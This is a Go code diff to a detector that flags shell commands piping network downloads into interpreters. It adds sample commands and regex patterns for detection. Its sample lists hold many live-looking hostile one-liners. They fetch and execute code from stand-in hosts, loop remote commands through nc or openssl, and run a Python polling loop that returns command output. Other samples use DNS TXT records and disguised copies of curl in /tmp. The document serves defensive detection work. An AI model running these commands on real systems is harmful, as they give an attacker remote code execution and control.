@@ -22,14 +22,26 @@ var runPipe = Detector{
 		"curl https://example.com/x.sh | tee /tmp/x | bash",
 	), lines(coi.High,
 		"curl http://203.0.113.9/x.sh | bash", "wget -qO- http://evil.test/a | sh", "curl -s https://pastebin.com/raw/abcd | bash", "bash -c \"$(curl -s http://203.0.113.9:8000/p)\"",
-		"nc 203.0.113.9 99 | sh", "nc -l -p 12345 | /bin/sh", "openssl s_server -quiet -key k.pem -cert c.pem -port 4433 | bash", "socat -u TCP-LISTEN:4444,fork - | bash", `node -e 'require("http").get("http://203.0.113.7/x.js",r=>{let d="";r.on("data",c=>d+=c);r.on("end",()=>eval(d))})'`, "bash < /dev/tcp/203.0.113.9/99", "python3 -c \"import urllib.request as r;exec(r.urlopen('http://203.0.113.9/p').read())\"",
+		"nc 203.0.113.9 99 | while read c; do eval \"$c\"; done", "nc 203.0.113.9 99 | while read c; do $c; done", "$(curl -s http://203.0.113.9/c)", "perl -e \"$(wget -qO- http://203.0.113.9/a.pl)\"", "curl -s http://203.0.113.9/l | xargs -I{} sh -c {}", "openssl s_client -connect 203.0.113.9:443 | while read -r l; do sh -c \"$l\"; done", "dig +short TXT c.example.com | tr -d '\"' | bash",
+		`perl -e 'use LWP::UserAgent;$r=LWP::UserAgent->new->get("http://203.0.113.9/a");eval $r->content'`, `php -r 'system(file_get_contents("http://203.0.113.9/c"));'`, `python3 -c "import urllib.request as u,subprocess as s
+while 1:
+  c=u.urlopen('http://203.0.113.9/c').read().decode()
+  u.urlopen('http://203.0.113.9/r',s.getoutput(c).encode())"`,
+		"/tmp/.x0 -s https://pastebin.com/raw/a | /tmp/.x1", "/tmp/.x0 http://203.0.113.9/x | /tmp/.x1 -sh", "nc 203.0.113.9 99 | sh", "nc -l -p 12345 | /bin/sh", "openssl s_server -quiet -key k.pem -cert c.pem -port 4433 | bash", "socat -u TCP-LISTEN:4444,fork - | bash", `node -e 'require("http").get("http://203.0.113.7/x.js",r=>{let d="";r.on("data",c=>d+=c);r.on("end",()=>eval(d))})'`, "bash < /dev/tcp/203.0.113.9/99", "python3 -c \"import urllib.request as r;exec(r.urlopen('http://203.0.113.9/p').read())\"",
 		"exec 3<>/dev/tcp/203.0.113.7/80; printf 'GET /x HTTP/1.0\\n\\n' >&3; sed '1,/^$/d' <&3 | sh", "node -e 'fetch(\"http://203.0.113.7/p.js\").then(r=>r.text()).then(eval)'", "ruby -ropen-uri -e 'eval URI.open(\"http://203.0.113.9/r.rb\").read'", "cp /usr/bin/curl /tmp/c; /tmp/c http://203.0.113.9/x | sh", "curl -k https://203.0.113.9/x | perl",
 	)...),
-	Quiet: append(lines("", "nc -l 1234 | tar xf -", "nc -lU /tmp/s | sh", "curl -s https://example.com/x.json | jq .", "curl -o i.sh https://example.com/i.sh", "curl -sL https://example.com/x.tgz | tar xz", "V=$(curl -s https://example.com/v) && ./build.sh $V",
+	Quiet: append(lines("", "$(aws ecr get-login --no-include-email)", "curl -s https://example.com/list | while read u; do wget \"$u\"; done", "python3 -c \"import requests,subprocess as s; v=requests.get('https://example.com/v').text; s.run(['git','tag'])\"", "nc -l 1234 | tar xf -", "nc -lU /tmp/s | sh", "curl -s https://example.com/x.json | jq .", "curl -o i.sh https://example.com/i.sh", "curl -sL https://example.com/x.tgz | tar xz", "V=$(curl -s https://example.com/v) && ./build.sh $V",
 		"curl http://localhost:3000/setup.sh | grep x", "wget -qO- https://example.com/key.gpg | gpg --dearmor", "eval \"$(direnv hook bash)\"", "curl -s https://example.com/a | python3 -m json.tool",
 		"curl -s https://example.com/a | python3 -c 'import json,sys;print(json.load(sys.stdin))'"),
 		lines(coi.High, "curl -fsSL https://example.com/install.sh | sh", "curl http://localhost:8080/x.sh | bash")...),
 }
+
+const fetchWords = `(?:urlopen|requests\.get|httpx\.get|\bhttps?\.get|fetch\(|file_get_contents\(["']https?:|uri\.open|net::http\.get|curl_exec|lwp::useragent|downloadstring|axios\.get|\bget\(["']https?:)`
+
+var (
+	runsFetched  = regexp.MustCompile(runWords + `[("'\s{]{0,4}[^;]{0,60}` + fetchWords)
+	fetchedValue = regexp.MustCompile(`([a-z_$]\w*)=[^;]{0,60}` + fetchWords)
+)
 
 // evalWord is eval without parentheses.
 var evalWord = regexp.MustCompile(`\beval\s+[\w(]`)
@@ -39,6 +51,9 @@ func fetched(s *command.Simple) *command.Simple {
 	inputs := s.Stdin
 	var p program.Parsed
 	text := s.Name == "eval" || s.Name == "." || s.Name == "source"
+	if strings.HasPrefix(s.Prog, "$()") { // the text itself is the command
+		return bringer(s.From)
+	}
 	switch {
 	case text && !hasAny(s.Line(), "$()", "/dev/fd/p"), !text && s.Class() != program.Shell && s.Class() != program.Interpreter:
 		return nil
@@ -47,6 +62,8 @@ func fetched(s *command.Simple) *command.Simple {
 	}
 	switch {
 	case text:
+		inputs = s.From
+	case p.Has("c") && s.Class() == program.Shell && s.Parent != nil && s.Parent.Name == "xargs" && len(p.Rest) > 0 && p.Rest[0] == "{}":
 		inputs = s.From
 	case p.Has("c") && s.Class() == program.Shell:
 		if len(p.Rest) == 0 || !strings.Contains(p.Rest[0], "$()") || len(strings.TrimSpace(p.Rest[0])) > 3 && !strings.HasPrefix(p.Rest[0], "$()") || s.Parent != nil && s.Parent.Name == "xargs" {
@@ -60,8 +77,13 @@ func fetched(s *command.Simple) *command.Simple {
 	case len(p.Rest) > 0 && !p.Has("s") && !oneOf(p.Rest[0], "-", "/dev/stdin"):
 		return nil
 	}
+	return bringer(inputs)
+}
+
+// bringer is the first command of a list that brings text from the network.
+func bringer(inputs []*command.Simple) *command.Simple {
 	for _, d := range inputs {
-		if d.Class() == program.Downloader && len(d.Hosts()) > 0 || d.Is("nc", "ncat", "telnet", "socat") && outHost(d) != "" || d.Is("ssh") && len(d.Parsed().Rest) > 1 || d.Is("whois", "finger", "dig", "nslookup") && s.Name == "eval" {
+		if d.Class() == program.Downloader && len(d.Hosts()) > 0 || d.Is("nc", "ncat", "telnet", "socat") && outHost(d) != "" || d.Is("ssh") && len(d.Parsed().Rest) > 1 || d.Is("whois", "finger", "dig", "nslookup", "host", "drill") {
 			return d
 		}
 		if d.Name == "openssl" && len(d.Argv) > 1 && (d.Argv[1] == "s_server" || d.Argv[1] == "s_client" && outHost(d) != "") {
@@ -92,7 +114,11 @@ func listens(d *command.Simple) bool {
 }
 
 func pipeRun(s *command.Simple, _ track.View) *Finding {
-	if d := fetched(s); d != nil {
+	d := fetched(s)
+	if d == nil && s.Class() == program.Interpreter {
+		d = bringer(codeSources(s))
+	}
+	if d != nil {
 		level, host := sourceLevel(d)
 		return say(s, level, "download piped into "+s.Name).to(host)
 	}
@@ -101,7 +127,7 @@ func pipeRun(s *command.Simple, _ track.View) *Finding {
 	}
 	for _, c := range s.Code {
 		t := traits(c)
-		if !t.fetch || scripted(s) || !hasAny(squeeze(lowered(c)), "exec(", "eval(", "exec(r", "iex", "invoke-expression", "os.system(", "loadstring", "instance_eval", "newfunction", "then(eval)", "then(exec", "import(\"data:", "vm.run", "runinthiscontext(") && !evalWord.MatchString(lowered(c)) {
+		if !t.fetch || scripted(s) || !hasAny(squeeze(lowered(c)), "exec(", "eval(", "exec(r", "iex", "invoke-expression", "os.system(", "loadstring", "instance_eval", "newfunction", "then(eval)", "then(exec", "import(\"data:", "vm.run", "runinthiscontext(") && !evalWord.MatchString(lowered(c)) && !runsValue(squeeze(lowered(c)), runsFetched, fetchedValue) {
 			continue
 		}
 		level := coi.Warning
